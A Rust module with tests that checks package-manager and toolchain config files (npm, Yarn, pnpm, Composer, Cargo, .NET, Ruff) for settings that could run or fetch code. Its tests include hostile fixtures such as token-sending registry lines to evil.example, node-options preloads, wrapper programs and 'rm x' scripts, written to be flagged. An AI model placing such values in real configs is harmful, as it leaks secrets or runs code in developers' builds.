//! Settings files that can be plain: what they may hold without a program that obeys them running or changing
//! something. Local reading asks this for the files that `obeys` names; what is held of them is the keys alone.

use std::path::Path;

use super::table::table;

/// Settings of npm and pnpm that only say what is kept, checked or shown.
const NPM: [&str; 36] = [
    "always-auth",
    "audit",
    "auto-install-peers",
    "color",
    "dedupe-peer-dependents",
    "engine-strict",
    "force",
    "fund",
    "hoist",
    "hoist-pattern[]",
    "ignore-scripts",
    "ignore-workspace-root-check",
    "install-strategy",
    "legacy-peer-deps",
    "link-workspace-packages",
    "lockfile",
    "lockfile-version",
    "loglevel",
    "message",
    "node-linker",
    "offline",
    "package-lock",
    "prefer-offline",
    "prefer-workspace-packages",
    "progress",
    "public-hoist-pattern[]",
    "resolution-mode",
    "save",
    "save-exact",
    "save-prefix",
    "save-workspace-protocol",
    "shamefully-hoist",
    "side-effects-cache",
    "strict-peer-dependencies",
    "unicode",
    "update-notifier",
];

/// Settings of Yarn that only say what is kept, checked or shown. Others name its own program, plug-ins, folders, or
/// servers with secrets.
const YARN: [&str; 20] = [
    "checksumBehavior",
    "compressionLevel",
    "defaultSemverRangePrefix",
    "deferredVersionFolder",
    "enableColors",
    "enableConstraintsChecks",
    "enableGlobalCache",
    "enableHardenedMode",
    "enableHyperlinks",
    "enableImmutableInstalls",
    "enableInlineHunks",
    "enableMessageNames",
    "enableProgressBars",
    "enableScripts",
    "enableTelemetry",
    "enableTimers",
    "nmHoistingLimits",
    "nmMode",
    "nodeLinker",
    "preferDeferredVersions",
];
/// Keys of a project of Composer that say what it is and needs. `extra` is for plug-ins, which are looked at apart.
const PROJECT: [&str; 31] = [
    "$schema",
    "_comment",
    "abandoned",
    "archive",
    "authors",
    "autoload",
    "autoload-dev",
    "bin",
    "conflict",
    "default-branch",
    "description",
    "extra",
    "funding",
    "homepage",
    "keywords",
    "license",
    "minimum-stability",
    "name",
    "non-feature-branches",
    "prefer-stable",
    "provide",
    "readme",
    "replace",
    "require",
    "require-dev",
    "scripts-descriptions",
    "suggest",
    "support",
    "time",
    "type",
    "version",
];
/// The same of its `config`.
const PROJECT_CONFIG: [&str; 12] = [
    "apcu-autoloader",
    "autoloader-suffix",
    "classmap-authoritative",
    "discard-changes",
    "lock",
    "optimize-autoloader",
    "platform",
    "platform-check",
    "preferred-install",
    "prepend-autoloader",
    "process-timeout",
    "sort-packages",
];
/// Moments for which a project of Composer names scripts, and which no view comes to.
const INSTALLING: [&str; 12] = [
    "post-autoload-dump",
    "post-create-project-cmd",
    "post-install-cmd",
    "post-package-install",
    "post-package-uninstall",
    "post-package-update",
    "post-root-package-install",
    "post-update-cmd",
    "pre-autoload-dump",
    "pre-install-cmd",
    "pre-package-uninstall",
    "pre-update-cmd",
];

/// Stands for a key where a file can't be read for sure.
pub(super) const UNREADABLE: &str = "an unreadable line";

/// The settings of a file that may make a program run or change something, by the end of its path; none where such files
/// aren't read. What can't be read for sure counts as one.
#[must_use]
pub fn foreign_settings(path: &str, text: &str) -> Option<Vec<String>> {
    let (folder, file) = path.rsplit_once('/').unwrap_or(("", path));
    match file {
        ".npmrc" => Some(npm(text)),
        ".yarnrc.yml" => Some(yarn(text)),
        "pnpm-workspace.yaml" => Some(members(text)),
        "composer.json" => Some(composer(text)),
        "global.json" => Some(dotnet(text)),
        "config.toml" | "config" if Path::new(folder).ends_with(".cargo") => Some(cargo(text)),
        file if of_compose(file) => Some(compose(text)),
        ".env" => Some(text.contains("COMPOSE_").then(|| "COMPOSE_…".to_owned()).into_iter().collect()),
        // Once it was a name alone.
        "rust-toolchain" if !text.contains('=') => Some(named(text.trim())),
        "rust-toolchain.toml" | "rust-toolchain" => Some(toolchain(text)),
        file if of_python(file) => Some(ruff(file, text)),
        _ => None,
    }
}

/// Whether a file holds what Ruff obeys, and maybe much else.
pub(super) fn of_python(file: &str) -> bool {
    matches!(file, "pyproject.toml" | "ruff.toml" | ".ruff.toml")
}

/// Whether a file is called as projects of Docker Compose are, by default or beside it: `compose.prod.yaml`.
fn of_compose(file: &str) -> bool {
    let name = file.strip_suffix(".yaml").or_else(|| file.strip_suffix(".yml"));
    name.is_some_and(|name| name.split(['.', '-', '_']).any(|part| part == "compose"))
}

/// The keys of Ruff's settings: which of them matter is for a rule to say
/// (<https://docs.astral.sh/ruff/settings/>).
fn ruff(file: &str, text: &str) -> Vec<String> {
    let Ok(all) = text.parse::<toml::Table>() else { return vec![UNREADABLE.to_owned()] };
    let own = if file == "pyproject.toml" {
        all.get("tool").and_then(|tool| tool.get("ruff")).and_then(toml::Value::as_table)
    } else {
        Some(&all)
    };
    own.map(|own| own.keys().cloned().collect()).unwrap_or_default()
}

/// Whether local reading should look into a file of that name.
pub(super) fn can_be_plain(file: &str) -> bool {
    foreign_settings(file, "").is_some()
}

/// A project of Docker Compose that takes in another one, or may do so by letters that are spelled otherwise.
fn compose(text: &str) -> Vec<String> {
    ["include", "extends", "\\"].into_iter().filter(|word| text.contains(word)).map(str::to_owned).collect()
}

fn npm(text: &str) -> Vec<String> {
    // A lone carriage return ends a line too.
    let lines =
        text.split(['\r', '\n']).map(str::trim).filter(|line| !line.is_empty() && !line.starts_with(['#', ';']));
    let foreign = lines.filter_map(|line| {
        let (key, value) = line.split_once('=').unwrap_or((line, ""));
        let (key, value) = (key.trim(), value.trim());
        let plain = value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.*@^~\"/ ".contains(&byte));
        (!(NPM.contains(&key) && plain)).then(|| key.to_owned())
    });
    foreign.collect()
}

/// A workspace of pnpm that says no more than which folders belong to it.
fn members(text: &str) -> Vec<String> {
    let breaks = |c: char| matches!(c, '\r' | '\n' | '\u{85}' | '\u{2028}' | '\u{2029}');
    let lines = text.split(breaks).map(str::trim_end).filter(|line| !line.is_empty() && !line.starts_with('#'));
    let foreign = lines.filter(|line| {
        let item = line.trim_start().strip_prefix("- ").map(|item| item.trim().trim_matches(['"', '\'']));
        let plain = |item: &str| {
            !item.is_empty() && item.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_./*@!".contains(&byte))
        };
        *line != "packages:" && !item.is_some_and(plain)
    });
    foreign.map(|line| line.split(':').next().unwrap_or(line).trim().to_owned()).collect()
}

/// Lines of a key and one plain word: whatever else YAML can say, such as what goes on in the next line, isn't read.
fn yarn(text: &str) -> Vec<String> {
    let breaks = |c: char| matches!(c, '\r' | '\n' | '\u{85}' | '\u{2028}' | '\u{2029}');
    let lines = text.split(breaks).map(str::trim_end).filter(|line| !line.is_empty() && !line.starts_with('#'));
    let foreign = lines.filter_map(|line| {
        let (key, value) = line.split_once(": ").unwrap_or((line, "?"));
        let value = value.trim().trim_matches(['"', '\'']);
        let plain =
            !value.is_empty() && value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.^~".contains(&byte));
        (!(YARN.contains(&key) && plain)).then(|| key.split(':').next().unwrap_or(key).trim().to_owned())
    });
    foreign.collect()
}

/// Which SDK is looked for among those that are installed, not where. Readers differ in which of two keys of one name
/// they take, and in what they make of escapes.
fn dotnet(text: &str) -> Vec<String> {
    const SDK: [&str; 4] = ["sdk", "version", "rollForward", "allowPrerelease"];
    let twice = SDK.iter().any(|key| text.matches(&format!("\"{key}\"")).count() > 1);
    let object = serde_json::from_str::<serde_json::Map<String, serde_json::Value>>(text).ok();
    let Some(object) = object.filter(|_| !twice && !text.contains('\\')) else {
        return vec![UNREADABLE.to_owned()];
    };
    let mut foreign: Vec<String> = object.keys().filter(|key| *key != "sdk").cloned().collect();
    match object.get("sdk") {
        Some(serde_json::Value::Object(sdk)) => {
            let known = |key: &str, value: &serde_json::Value| match value {
                serde_json::Value::String(text) => {
                    matches!(key, "version" | "rollForward")
                        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'))
                }
                serde_json::Value::Bool(_) => key == "allowPrerelease",
                _ => false,
            };
            let others = sdk.iter().filter(|(key, value)| !known(key, value));
            foreign.extend(others.map(|(key, _)| format!("sdk.{key}")));
        }
        Some(_) => foreign.push("sdk".to_owned()),
        None => {}
    }
    foreign
}

/// A project of Composer: it loads plug-ins that it allows, and runs scripts at moments that have a name. Since 2.2 it
/// loads none that isn't allowed.
fn composer(text: &str) -> Vec<String> {
    use serde_json::Value;
    let Ok(project) = serde_json::from_str::<serde_json::Map<String, Value>>(text) else {
        return vec![UNREADABLE.to_owned()];
    };
    let mut foreign = Vec::new();
    for (key, value) in &project {
        match (key.as_str(), value) {
            (key, _) if PROJECT.contains(&key) => {}
            ("scripts", Value::Object(scripts)) => {
                let moment = |name: &str| {
                    let named =
                        name.starts_with("pre-") || name.starts_with("post-") || matches!(name, "init" | "command");
                    named && !INSTALLING.contains(&name)
                };
                foreign.extend(scripts.keys().filter(|name| moment(name)).map(|name| format!("scripts.{name}")));
            }
            ("config", Value::Object(config)) => {
                let none = |value: &Value| {
                    *value == Value::Bool(false)
                        || value.as_object().is_some_and(|all| all.values().all(|value| *value == Value::Bool(false)))
                };
                let known =
                    |key: &str, value: &Value| PROJECT_CONFIG.contains(&key) || key == "allow-plugins" && none(value);
                let others = config.iter().filter(|(key, value)| !known(key, value));
                foreign.extend(others.map(|(key, _)| format!("config.{key}")));
            }
            _ => foreign.push(key.clone()),
        }
    }
    foreign
}

/// What Cargo is told that runs, fetches and writes nothing (<https://doc.rust-lang.org/cargo/reference/config.html>). An
/// alias takes the place of no command of its own, but of programs that are called like one.
fn cargo(text: &str) -> Vec<String> {
    let Ok(file) = text.parse::<toml::Table>() else { return vec![UNREADABLE.to_owned()] };
    let known = |section: &str, key: &str, value: &toml::Value| match section {
        "alias" => !table().knows(&format!("cargo {key}")),
        "profile" | "term" => true,
        "build" => matches!(key, "incremental" | "jobs" | "target-dir"),
        "net" => matches!(key, "offline" | "retry"),
        "source" => value
            .as_table()
            .is_some_and(|source| source.keys().all(|key| matches!(key.as_str(), "directory" | "replace-with"))),
        _ => false,
    };
    let mut foreign = Vec::new();
    for (section, value) in &file {
        match value {
            toml::Value::Table(keys) => {
                let others = keys.iter().filter(|(key, value)| !known(section, key, value));
                foreign.extend(others.map(|(key, _)| format!("{section}.{key}")));
            }
            _ => foreign.push(section.clone()),
        }
    }
    foreign
}

fn toolchain(text: &str) -> Vec<String> {
    let Ok(file) = text.parse::<toml::Table>() else { return vec![UNREADABLE.to_owned()] };
    let mut foreign: Vec<String> = file.keys().filter(|key| *key != "toolchain").cloned().collect();
    match file.get("toolchain") {
        Some(toml::Value::Table(toolchain)) => {
            for (key, value) in toolchain {
                match (key.as_str(), value) {
                    ("channel", toml::Value::String(name)) => foreign.extend(named(name)),
                    ("components" | "targets", toml::Value::Array(_)) | ("profile", toml::Value::String(_)) => {}
                    _ => foreign.push(format!("toolchain.{key}")),
                }
            }
        }
        Some(_) => foreign.push("toolchain".to_owned()),
        None => {}
    }
    foreign
}

/// The name of a toolchain is one, not a folder.
fn named(name: &str) -> Vec<String> {
    let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_'));
    if plain && name.starts_with(|c: char| c.is_ascii_alphanumeric()) { Vec::new() } else { vec!["channel".to_owned()] }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_keys_of_ruff_are_told_wherever_they_stand() {
        let keys = |file, text| foreign_settings(file, text).unwrap().join(" ");
        assert_eq!(
            keys("pyproject.toml", "[project]\nname = 'a'\n[tool.ruff]\nline-length = 9\nfix = true"),
            "fix line-length"
        );
        assert_eq!(keys("pyproject.toml", "[tool]\nruff.fix = true\n[tool.black]\nx = 1"), "fix");
        assert_eq!(keys("ruff.toml", "'extend' = '../x.toml'\n[lint]\nselect = []"), "extend lint");
        assert_eq!(keys("pyproject.toml", "[project]"), "");
        assert_eq!(keys(".ruff.toml", "a = "), UNREADABLE);
    }

    #[test]
    fn plain_settings_are_told_from_those_that_run_something() {
        let none = Some(Vec::<String>::new());
        for (file, text) in [
            (".npmrc", "# ours\nsave-exact=true\nengine-strict = true\n\nsave-prefix=~\n"),
            ("rust-toolchain", "1.80.1\n"),
            ("rust-toolchain", "[toolchain]\nchannel = \"stable\"\n"),
            (
                "rust-toolchain.toml",
                "[toolchain]\nchannel = \"nightly-2026-01-01\"\ncomponents = [\"clippy\"]\nprofile = \"minimal\"\n",
            ),
            (
                ".yarnrc.yml",
                "# ours\nnodeLinker: node-modules\r\n\nenableGlobalCache: false\ncompressionLevel: \"mixed\"\n",
            ),
            (
                "global.json",
                r#"{ "sdk": { "version": "8.0.100", "rollForward": "latestMinor", "allowPrerelease": false } }"#,
            ),
            (
                ".cargo/config.toml",
                "[alias]\nxtask = \"run -p xtask --\"\n[term]\nverbose = true\n[profile.release]\nlto = true\n[source.crates-io]\nreplace-with = \"vendored\"\n[source.vendored]\ndirectory = \"vendor\"\n",
            ),
            (
                "composer.json",
                r#"{"name": "a/b", "require": {"php": ">=8"}, "config": {"sort-packages": true, "allow-plugins": {"x/y": false}}, "scripts": {"test": "phpunit", "post-install-cmd": ["rm x"]}}"#,
            ),
        ] {
            assert_eq!(foreign_settings(file, text), none, "{text}");
        }
        for (file, text, key) in [
            (".cargo/config.toml", "[build]\nrustc-wrapper = \"./x\"", "build.rustc-wrapper"),
            (".cargo/config.toml", "[alias]\nclippy = \"run\"", "alias.clippy"),
            (
                ".cargo/config.toml",
                "[target.x86_64-unknown-linux-gnu]\nrunner = \"./x\"",
                "target.x86_64-unknown-linux-gnu",
            ),
            (".cargo/config.toml", "[source.x]\nregistry = \"https://evil.example\"", "source.x"),
            (".cargo/config", "paths = [\"x\"]", "paths"),
            (".cargo/config", "[alias", "an unreadable line"),
            (".npmrc", "git=./x", "git"),
            (".npmrc", "script-shell=./x", "script-shell"),
            (".npmrc", "registry=https://evil.example/${TOKEN}", "registry"),
            (".npmrc", "//evil.example/:_authToken=${TOKEN}", "//evil.example/:_authToken"),
            (".npmrc", "save-prefix=${TOKEN}", "save-prefix"),
            (".npmrc", "node-options=--require ./x", "node-options"),
            ("rust-toolchain.toml", "[toolchain]\npath = \"./x\"", "toolchain.path"),
            ("rust-toolchain.toml", "[toolchain]\nchannel = \"./x\"", "channel"),
            ("rust-toolchain.toml", "[toolchain", "an unreadable line"),
            ("rust-toolchain", "../x", "channel"),
            ("rust-toolchain", "a\nb", "channel"),
            (".npmrc", "# ours\rgit=./x", "git"),
            (".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs", "yarnPath"),
            (".yarnrc.yml", "# ours\ryarnPath: ./x", "yarnPath"),
            (".yarnrc.yml", "nodeLinker: pnp\u{2028}yarnPath: ./x", "yarnPath"),
            (".yarnrc.yml", "nodeLinker: pnp\nplugins:\n", "plugins"),
            (".yarnrc.yml", "nodeLinker: ${TOKEN}", "nodeLinker"),
            (".yarnrc.yml", "\"yarnPath\": ./x", "\"yarnPath\""),
            (".yarnrc.yml", "{yarnPath: ./x}", "{yarnPath"),
            (".yarnrc.yml", "nodeLinker: pnp\n  yarnPath: ./x", "yarnPath"),
            ("global.json", r#"{"sdk": {"version": "8.0.100", "paths": ["./x"]}}"#, "sdk.paths"),
            ("global.json", r#"{"sdk": {"paths": ["x"]}, "sdk": {"version": "8"}}"#, "an unreadable line"),
            ("global.json", r#"{"s\u0064k": {}}"#, "an unreadable line"),
            ("global.json", r#"{"msbuild-sdks": {"x": "1"}}"#, "msbuild-sdks"),
            ("global.json", r#"{"sdk": {"version": "../x"}}"#, "sdk.version"),
            ("composer.json", r#"{"scripts": {"command": "rm x"}}"#, "scripts.command"),
            ("composer.json", r#"{"scripts": {"pre-command-run": "rm x"}}"#, "scripts.pre-command-run"),
            ("composer.json", r#"{"scripts": {"pre-file-download": "rm x"}}"#, "scripts.pre-file-download"),
            ("composer.json", r#"{"config": {"allow-plugins": true}}"#, "config.allow-plugins"),
            ("composer.json", r#"{"config": {"allow-plugins": {"a/b": true}}}"#, "config.allow-plugins"),
            ("composer.json", r#"{"config": {"vendor-dir": "x"}}"#, "config.vendor-dir"),
            ("composer.json", r#"{"repositories": []}"#, "repositories"),
            ("composer.json", r#"{"scripts": "x"}"#, "scripts"),
            ("composer.json", "", "an unreadable line"),
        ] {
            assert_eq!(foreign_settings(file, text).unwrap(), [key], "{text}");
        }
        assert_eq!(foreign_settings("Makefile", ""), None);
    }
}
